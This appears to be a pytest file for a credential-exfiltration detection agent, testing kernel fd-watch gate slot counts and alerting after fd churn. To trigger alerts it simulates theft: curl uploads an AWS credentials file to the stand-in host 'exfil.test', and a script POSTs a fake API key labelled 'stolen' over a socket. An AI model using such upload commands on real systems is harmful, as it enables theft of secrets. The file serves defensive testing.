"""The watched-fd gate on the hot path (issue 2, performance). A read, write or close of an fd the
agent does not watch skips the watched_fds lookup when the fd's slot in cs_fd_slots counts no
entry. The counts must stay exact: one too low and a watched fd would be skipped, one that never
falls and the gate decays into a lookup on every call. The stats file shows the slots in use
(kernel.watched_fd_slots_in_use); here credential fds and sockets are opened, closed, and left
open at exit, and the figure must rise with them and fall back to where it started. A credential
file read and sent after the churn must still alert."""

import socket
import time

from kharness.users import write_aws_credentials

STATS_TIMEOUT = 8.0  # the stats file is rewritten every second; exits are cleaned up within it

# Opens and reads the credential file many times (each open watches its fd, each close forgets
# it), connects sockets to a listener that never accepts (each connect watches the socket), then
# waits for the test to look. Half the sockets are closed, one credential fd is opened again,
# and the process exits with both still open: the agent forgets those when it sees the exit.
CHURN = r"""
import os, socket, sys, time
creds, port, hold = sys.argv[1], int(sys.argv[2]), sys.argv[3]
for _ in range(200):
    with open(creds) as f:
        f.read()
socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(40)]
with open(creds) as f:
    f.read()
    deadline = time.monotonic() + 20
    while not os.path.exists(hold) and time.monotonic() < deadline:
        time.sleep(0.05)
for s in socks[:20]:
    s.close()
os.open(creds, os.O_RDONLY)
os._exit(0)
"""


def _slots(agent) -> int | None:
    kernel = agent.stats().get("kernel", {})
    return kernel.get("watched_fd_slots_in_use")


def _wait_slots(agent, predicate, what: str) -> int:
    deadline = time.monotonic() + STATS_TIMEOUT
    value = _slots(agent)
    while (value is None or not predicate(value)) and time.monotonic() < deadline:
        time.sleep(0.2)
        value = _slots(agent)
    assert value is not None and predicate(value), (
        f"watched_fd_slots_in_use {value}: {what}\n{agent.diagnostics()}")
    return value


def test_watched_fd_slots_follow_fds_up_and_back_and_reads_after_churn_alert(
        test_user, agent, clients, https_server, curl, registry, scratch):
    creds = write_aws_credentials(test_user, registry)
    baseline = _wait_slots(agent, lambda v: True, "absent from the stats file")

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(128)  # never accepted: the backlog completes the connects
    hold = scratch / "hold"
    try:
        proc = clients.start(["python3", "-c", CHURN, str(creds),
                              str(listener.getsockname()[1]), str(hold)], user=test_user)
        # 40 sockets and a credential fd held open: at least 30 distinct slots of 16384.
        peak = _wait_slots(agent, lambda v: v >= baseline + 30, "did not rise with open fds")
        hold.touch()
        _, err = proc.communicate(timeout=30)
        assert proc.returncode == 0, registry.redact(err.decode(errors="replace"))[-2000:]
        _wait_slots(agent, lambda v: v == baseline,
                    f"did not fall back to {baseline} after the fds closed (peak {peak})")
    finally:
        listener.close()

    # The gate still lets a credential fd through: its read is learned and the upload alerts.
    clients.run(curl.https(https_server, "exfil.test", "/up") + ["-T", str(creds)],
                user=test_user)
    https_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(
        lambda a: any(r.get("path") == str(creds)
                      for r in (a.get("evidence") or {}).get("credential_reads", [])),
        timeout=6.0)
    assert alerts, f"no alert naming {creds} after the churn\n{agent.diagnostics()}"
    assert alerts[0]["process"]["comm"] == "curl"
    assert alerts[0]["destination"]["host"] == "exfil.test"
    _wait_slots(agent, lambda v: v == baseline, "did not fall back after curl exited")


# Connects before the agent starts, then sends a key over that socket once told to. The agent
# learns the socket from /proc at start-up and watches it from user space, so this send reaches
# the kernel only if user space counted the socket in its gate slot too.
EARLY_SOCKET = r"""
import os, socket, sys, time
port, hold, body_file = int(sys.argv[1]), sys.argv[2], sys.argv[3]
s = socket.create_connection(("127.0.0.1", port))
deadline = time.monotonic() + 30
while not os.path.exists(hold) and time.monotonic() < deadline:
    time.sleep(0.05)
body = open(body_file, "rb").read()
s.sendall(b"POST /early HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
          b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
while s.recv(4096):
    pass
"""


def test_socket_connected_before_the_agent_started_is_watched_through_the_gate(
        start_agent, clients, http_server, registry, scratch):
    key = registry.new("openai")
    body = scratch / "body.json"
    body.write_text(f'{{"stolen": "{key}"}}')
    hold = scratch / "hold"
    proc = clients.start(["python3", "-c", EARLY_SOCKET, str(http_server.port), str(hold),
                          str(body)])
    try:
        deadline = time.monotonic() + 10
        while not any(f"127.0.0.1:{http_server.port}" in line for line in _tcp_peers(proc.pid)):
            assert time.monotonic() < deadline, "the client never connected"
            time.sleep(0.05)
        agent = start_agent()  # ready once its start-up scan has watched the socket
        hold.touch()
        _, err = proc.communicate(timeout=30)
        assert proc.returncode == 0, registry.redact(err.decode(errors="replace"))[-2000:]
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    [req] = http_server.wait_for_requests(1)
    assert req.path == "/early"
    alerts = agent.wait_for_alerts(
        lambda a: (a.get("secret") or {}).get("provider") == "openai", timeout=6.0)
    assert alerts, f"no alert for a send on a socket older than the agent\n{agent.diagnostics()}"
    assert alerts[0]["process"]["pid"] == proc.pid
    assert alerts[0]["destination"]["port"] == http_server.port


def _tcp_peers(pid: int) -> list[str]:
    """ "ip:port" of the established TCP peers of `pid`, from /proc/<pid>/net/tcp."""
    peers = []
    try:
        lines = open(f"/proc/{pid}/net/tcp").read().splitlines()[1:]
    except OSError:
        return peers
    for line in lines:
        fields = line.split()
        if fields[3] != "01":  # ESTABLISHED
            continue
        addr, port = fields[2].split(":")
        ip = ".".join(str(int(addr[i:i + 2], 16)) for i in (6, 4, 2, 0))
        peers.append(f"{ip}:{int(port, 16)}")
    return peers
